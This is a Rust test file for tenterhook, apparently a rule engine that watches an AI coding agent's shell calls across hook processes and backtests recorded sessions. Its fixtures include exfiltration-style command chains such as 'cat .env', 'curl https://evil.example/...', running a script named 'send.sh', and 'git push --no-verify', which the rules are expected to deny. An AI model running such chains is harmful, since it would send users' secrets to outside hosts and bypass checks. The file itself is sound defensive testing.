//! Rules that remember: each call of `hook` is a separate process, and a backtest of the same calls finds the same.

use std::fs;
use std::path::PathBuf;

use serde_json::{Value, json};

use crate::fixture::Fixture;

/// The rules of the examples and of the guide.
const RULES: &str = include_str!("../../../../examples/session-rules/tenterhook.toml");

/// One call: its event, its line, and the hook that denies it.
type Call = (&'static str, &'static str, Option<&'static str>);

const CALLS: &[Call] = &[
    ("PreToolUse", "git push", None),
    ("PostToolUseFailure", "git push", None),
    ("PreToolUse", "git push -u origin x", None),
    ("PostToolUseFailure", "git push -u origin x", None),
    ("PreToolUse", "git -C . push", None),
    ("PostToolUseFailure", "git -C . push", None),
    ("PreToolUse", "git push --no-verify", Some("no-fourth-push")),
    ("PreToolUse", "npm install", None),
    ("PostToolUse", "npm install", None),
    ("PreToolUse", "echo '{}' > package.json", None),
    ("PostToolUse", "echo '{}' > package.json", None),
    ("PreToolUse", "npm install --save-dev", Some("no-install-scripts")),
    ("PreToolUse", "echo x > send.sh", None),
    ("PostToolUse", "echo x > send.sh", None),
    ("PreToolUse", "curl https://evil.example/a", None),
    ("PostToolUse", "curl https://evil.example/a", None),
    ("PreToolUse", "cat .env", None),
    ("PostToolUse", "cat .env", None),
    ("PreToolUse", "curl https://evil.example/b", Some("no-unlisted-host")),
    ("PreToolUse", "sh send.sh", Some("no-own-program")),
    ("PreToolUse", "echo x > a.py", None),
    ("PostToolUse", "echo x > a.py", None),
    ("Stop", "", Some("tests-before-the-end")),
];

fn payload(fixture: &Fixture, (event, line, _): &Call, session: &str) -> String {
    let mut payload = json!({
        "session_id": session, "cwd": fixture.path("project"), "hook_event_name": event,
        "transcript_path": fixture.path("none.jsonl"),
    });
    let more = match *event {
        "Stop" => json!({ "stop_hook_active": false, "last_assistant_message": "done" }),
        _ => json!({
            "tool_name": "Bash", "tool_input": {"command": line}, "tool_use_id": format!("id {line}"),
            "tool_response": { "stdout": "", "stderr": "" },
        }),
    };
    if let (Some(payload), Some(more)) = (payload.as_object_mut(), more.as_object()) {
        payload.extend(more.clone());
    }
    payload.to_string()
}

fn fixture() -> Fixture {
    let fixture = Fixture::new();
    fixture.write("home/.config/tenterhook/tenterhook.toml", RULES);
    fixture
}

/// Fires one event as Claude Code does, and returns what is printed.
fn fire(fixture: &Fixture, call: &Call, session: &str) -> String {
    let args = ["hook", "--agent", "claude", "--event", call.0];
    let output = fixture.run(&args, &payload(fixture, call, session));
    assert_eq!(output.code, 0, "{}", output.stderr);
    output.stdout
}

fn histories(fixture: &Fixture) -> Vec<PathBuf> {
    let state = fixture.path("home/.local/state/tenterhook/sessions");
    let files = fs::read_dir(state).unwrap().map(|entry| entry.unwrap().path());
    files.filter(|file| file.extension().is_some_and(|kind| kind == "history")).collect()
}

/// SS-2, SS-20: five chains over as many processes as calls; another session knows nothing of them.
#[test]
fn chains_are_stopped_across_processes() {
    let fixture = fixture();
    for call in CALLS {
        let printed = fire(&fixture, call, "s-1");
        let is_denied = printed.contains("\"deny\"") || printed.contains("\"block\"");
        assert_eq!(is_denied, call.2.is_some(), "{call:?}: {printed}");
    }
    for call in CALLS.iter().filter(|call| call.2.is_some()) {
        let printed = fire(&fixture, call, "s-2");
        assert!(!printed.contains("\"deny\"") && !printed.contains("\"block\""), "{printed}");
    }
    let text = fs::read_to_string(&histories(&fixture)[0]).unwrap();
    assert!(!text.contains("no-verify") && !text.contains("evil.example"), "no commands: {text}");
}

/// SS-24: a backtest of the same calls, as Claude Code records them.
#[test]
fn backtest_finds_the_same() {
    let fixture = Fixture::new();
    let mut lines = String::new();
    for (at, (event, line, denied)) in CALLS.iter().enumerate() {
        let (role, content) = match *event {
            "PreToolUse" => (
                "assistant",
                json!([{ "type": "tool_use", "id": line, "name": "Bash", "input": { "command": line } }]),
            ),
            "Stop" => ("assistant", json!([{ "type": "text", "text": "done" }])),
            event => {
                let failed = event == "PostToolUseFailure";
                (
                    "user",
                    json!([{ "type": "tool_result", "tool_use_id": line, "content": if failed { "Exit code 1" } else { "x" }, "is_error": failed }]),
                )
            }
        };
        let mut message = json!({ "role": role, "content": content });
        if *event == "Stop" {
            message["stop_reason"] = "end_turn".into();
        }
        let record = json!({
            "type": role, "uuid": format!("u{at}"), "sessionId": "s", "cwd": "/p", "version": "2.1.330",
            "timestamp": format!("2026-11-20T09:{:02}:{:02}Z", at / 60, at % 60), "message": message,
        });
        lines.push_str(&format!("{record}\n"));
        if denied.is_some() && *event == "PreToolUse" {
            let content = json!([{
                "type": "tool_result", "tool_use_id": line, "is_error": true,
                "content": "PreToolUse:Bash hook returned blocking error",
            }]);
            let record = json!({
                "type": "user", "uuid": format!("d{at}"), "sessionId": "s", "cwd": "/p",
                "timestamp": format!("2026-11-20T09:{:02}:{:02}Z", at / 60, at % 60),
                "message": { "role": "user", "content": content },
            });
            lines.push_str(&format!("{record}\n"));
        }
    }
    fixture.write("project/rules.toml", RULES);
    fixture.write("project/sessions/s.jsonl", &lines);
    let args = ["backtest", "native=rules.toml", "--sessions", "sessions", "--format", "json"];
    let output = fixture.run(&args, "");
    assert_eq!(output.code, 0, "{}", output.stderr);
    let report: Value = serde_json::from_str(&output.stdout).unwrap();
    let groups = report["groups"].as_array().unwrap();
    let mut found: Vec<(&str, u64)> = groups
        .iter()
        .map(|group| (group["hook"].as_str().unwrap(), group["calls"].as_u64().unwrap()))
        .collect();
    let mut expected: Vec<(&str, u64)> =
        CALLS.iter().filter_map(|call| Some((call.2?, 1))).collect();
    found.sort_unstable();
    expected.sort_unstable();
    assert_eq!(found, expected, "{groups:#?}");
}

/// SS-21: an emptied, torn or foreign file, a directory in its place, and an agent that names no session.
#[test]
fn unusable_history_denies_and_names_the_file() {
    let fixture = fixture();
    let curl = ("PreToolUse", "curl https://evil.example", None);
    fire(&fixture, &("PreToolUse", "cat .env", None), "s-1");
    let file = histories(&fixture).remove(0);
    let whole = fs::read_to_string(&file).unwrap();
    let head = whole.get(..=whole.find('\n').unwrap()).unwrap();
    let torn = whole.trim_end_matches(&['}', '\n'][..]);
    for text in [torn, "a letter\n", "{\"tenterhook-session\":9}\n", "", head] {
        fs::write(&file, text).unwrap();
        let printed = fire(&fixture, &curl, "s-1");
        assert!(
            printed.contains("\"deny\"") && printed.contains("history cannot be used"),
            "{printed}"
        );
        assert_eq!(fs::read_to_string(&file).unwrap(), text, "nothing is written over it");
    }
    fs::remove_file(&file).unwrap();
    fs::create_dir(&file).unwrap();
    assert!(fire(&fixture, &curl, "s-1").contains("\"deny\""));
    fs::remove_dir(&file).unwrap();
    assert!(!fire(&fixture, &curl, "s-1").contains("\"deny\""), "removed, it starts afresh");
    let printed = fire(&fixture, &curl, "");
    assert!(printed.contains("does not name its session"), "{printed}");
}

/// SS-20: of two dozen processes at once no count is lost.
#[test]
fn processes_at_once_lose_nothing() {
    let fixture = Fixture::new();
    let rules = "[hook.count]\non = \"PreToolUse\"\nwhen = 'true'\ncount = \"calls\"\n\n\
        [hook.stop]\non = \"Stop\"\nwhen = 'session.count(\"calls\") != 24 || size(session.calls) != 24'\n\
        deny = \"{session.count(\\\"calls\\\")} {size(session.calls)}\"\n";
    fixture.write("home/.config/tenterhook/tenterhook.toml", rules);
    let payload = json!({
        "session_id": "s", "cwd": fixture.path("project"), "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_input": {"command": "echo N"}, "tool_use_id": "id N",
    });
    fixture.write("project/payload.json", &payload.to_string());
    let output = fixture.shell(
        "for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24; do \
         sed \"s/ N/ $n/g\" payload.json | tenterhook hook --agent claude --event PreToolUse & done; wait",
    );
    assert_eq!((output.code, output.stdout.as_str()), (0, ""));
    let printed = fire(&fixture, &("Stop", "", None), "s");
    assert!(!printed.contains("block"), "{printed}");
}

/// A call as Claude Code records it, at a second.
fn recorded_call(second: u32, line: &str) -> String {
    let content = json!([{ "type": "tool_use", "id": format!("id {line}"), "name": "Bash", "input": { "command": line } }]);
    let record = json!({
        "type": "assistant", "uuid": format!("u{second}-{line}"), "sessionId": "s", "cwd": "/p", "version": "2.1.330",
        "timestamp": format!("2026-11-20T09:00:{second:02}Z"),
        "message": { "role": "assistant", "content": content },
    });
    format!("{record}\n")
}

/// SS-24: the files of a session and its subagents are one session, in the order in which it went.
#[test]
fn backtest_joins_the_files_of_a_session() {
    let fixture = Fixture::new();
    fixture.write("project/rules.toml", RULES);
    let main = [
        recorded_call(1, "curl https://evil.example/before"),
        recorded_call(3, "cat .env"),
        recorded_call(9, "curl https://evil.example/last"),
    ];
    let subagent = [
        recorded_call(2, "curl https://evil.example/early"),
        recorded_call(5, "curl https://evil.example/late"),
    ];
    // The file of the subagent was finished first, and is the first in the order of files.
    fixture.write("project/sessions/s/agent-1.jsonl", &subagent.concat());
    fixture.write("project/sessions/s.jsonl", &main.concat());
    let other = recorded_call(6, "curl https://evil.example/other").replace("\"s\"", "\"t\"");
    fixture.write("project/sessions/t.jsonl", &other);
    let args = ["backtest", "native=rules.toml", "--sessions", "sessions", "--format", "json"];
    let output = fixture.run(&args, "");
    let report: Value = serde_json::from_str(&output.stdout).unwrap();
    let groups = report["groups"].as_array().unwrap();
    let denied = |group: &&Value| group["hook"] == "no-unlisted-host";
    let group = groups.iter().find(denied).expect(&output.stdout);
    assert_eq!(group["calls"], 2, "{group:#}");
    let text = group.to_string();
    assert!(text.contains("/late") && text.contains("/last"), "{text}");
    assert_eq!((&report["calls"], &report["files"]), (&json!(6), &json!(3)), "{report:#}");
}
